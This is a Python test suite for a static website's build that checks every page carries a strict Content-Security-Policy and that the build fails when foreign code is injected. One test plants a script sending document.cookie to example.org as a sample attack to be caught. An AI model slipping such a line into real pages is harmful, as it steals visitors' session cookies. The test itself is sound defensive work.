"""Every page says what a browser may load and run; what is not ours never gets into a page."""

from __future__ import annotations

import re
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import lxml.html
import pytest
from playwright.sync_api import Browser

from macros.publish.swap import MARK
from macros.views.addresses import is_card
from macros.website.adapter.content_policy import inline_scripts
from tests.built.kinds import PAGES, ROOTS
from tests.edits import edit

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
EXPECTED = {
    "default-src": ["'none'"],
    "style-src": ["'self'"],
    "img-src": ["'self'", "data:"],
    "font-src": ["'self'"],
    "connect-src": ["'self'"],
    "worker-src": ["'self'"],
    "base-uri": ["'none'"],
    "form-action": ["'none'"],
}


OF_A_CARD = {"default-src": ["'none'"], "style-src": ["'self'"], "base-uri": ["'none'"], "form-action": ["'none'"]}


def directives(source: str) -> dict[str, list[str]]:
    policies = POLICY.findall(source)
    assert len(policies) == 1
    return {name: values for name, *values in (part.split() for part in policies[0].split(";"))}


def test_every_page_has_the_policy_before_anything_that_it_governs(site: Path):
    for path in site.rglob("*.html"):
        source = path.read_text(encoding="utf-8")
        found = directives(source)
        if is_card(path.relative_to(site).as_posix()):
            assert found == OF_A_CARD, path
            assert "<script" not in source, path
            continue
        scripts = found.pop("script-src")
        assert found == EXPECTED, path
        assert scripts == ["'self'"], path
        assert inline_scripts(source) == [], path
        before_policy = source[: source.index("Content-Security-Policy")]
        assert not re.search(r"<(link|script|style|img)\b", before_policy), path


def test_no_page_holds_styles_or_handlers_of_its_own(site: Path):
    for root in ROOTS:
        for path in PAGES:
            tree = lxml.html.parse(str(site / root / path / "index.html"))
            assert tree.xpath("//@style | //style | //iframe | //object | //embed | //base") == [], path
            assert [name for e in tree.iter() for name in e.attrib if name.startswith("on")] == [], path
            assert tree.xpath("//@href[starts-with(normalize-space(.), 'javascript:')]") == [], path


def test_the_browser_refuses_what_the_policy_does_not_name(address: str, browser: Browser):
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.goto(f"{address}en/countries/jp/")
    assert refused == []
    page.evaluate("""() => {
      const script = document.createElement("script");
      script.textContent = "document.title = 'taken over'";
      document.body.append(script);
      document.body.insertAdjacentHTML("beforeend", "<p style='color: red' onclick='x()'>x</p>");
      const image = new Image();
      image.src = "https://example.org/x.png";
    }""")
    page.wait_for_timeout(200)
    assert page.title() != "taken over"
    assert sum("Content Security Policy" in text for text in refused) >= 3, refused
    page.close()


def test_injected_linked_data_stops_the_build(project_copy: Path, build):
    block = '<script type="application/ld+json">{"@type": "GovernmentOrganization"}</script>'
    edit(project_copy / "docs" / "overrides" / "main.html", "{{ foot }}", f"{{{{ foot }}}}{block}")
    result = build(project_copy)
    assert result.returncode == 1
    assert "about/index.html: dữ liệu liên kết lạ trong trang" in result.stderr


def test_an_injected_script_stops_the_build_and_the_old_site_stays(project_copy: Path, build):
    old = project_copy / "site"
    (old / MARK).parent.mkdir(parents=True)
    (old / MARK).touch()
    (old / "index.html").write_text("old")
    script = "<script>fetch('https://example.org/?' + document.cookie)</script>"
    edit(project_copy / "docs" / "overrides" / "main.html", "{{ foot }}", f"{{{{ foot }}}}{script}")

    result = build(project_copy)

    assert result.returncode == 1
    assert "about/index.html: mã lạ trong trang" in result.stderr
    assert (old / "index.html").read_text() == "old"


def served(home: str, seconds: float = 300) -> str:
    """The home page of a server that is still building its first site."""
    end = time.monotonic() + seconds
    while True:
        try:
            with urllib.request.urlopen(home) as answer:
                return str(answer.read().decode())
        except urllib.error.URLError:
            if time.monotonic() > end:
                raise
            time.sleep(0.2)


def test_the_local_server_still_reloads_pages(project_copy: Path, monkeypatch: pytest.MonkeyPatch, browser: Browser):
    monkeypatch.setenv("AS_OF", "2026-11-21")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, str(project_copy / "scripts" / "serve.py"), "--port", str(port)]
    server = subprocess.Popen(command, cwd=project_copy, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    page = browser.new_page()
    try:
        home = f"http://127.0.0.1:{port}/"
        assert "livereload" in served(home)
        said: list[tuple[str, str]] = []
        page.on("console", lambda message: said.append((message.type, message.text)))
        page.goto(home, wait_until="load")
        page.wait_for_timeout(300)
        assert ("log", "Enabled live reload") in said
        assert [text for kind, text in said if kind == "error"] == []
    finally:
        page.close()
        server.terminate()
        server.wait(timeout=120)
    # Serving changes nothing of what is published, and the pages on disk are as a build leaves them.
    assert not (project_copy / "site").exists()
    built = project_copy / ".build" / "preview" / "site" / "index.html"
    assert "livereload" not in built.read_text(encoding="utf-8")
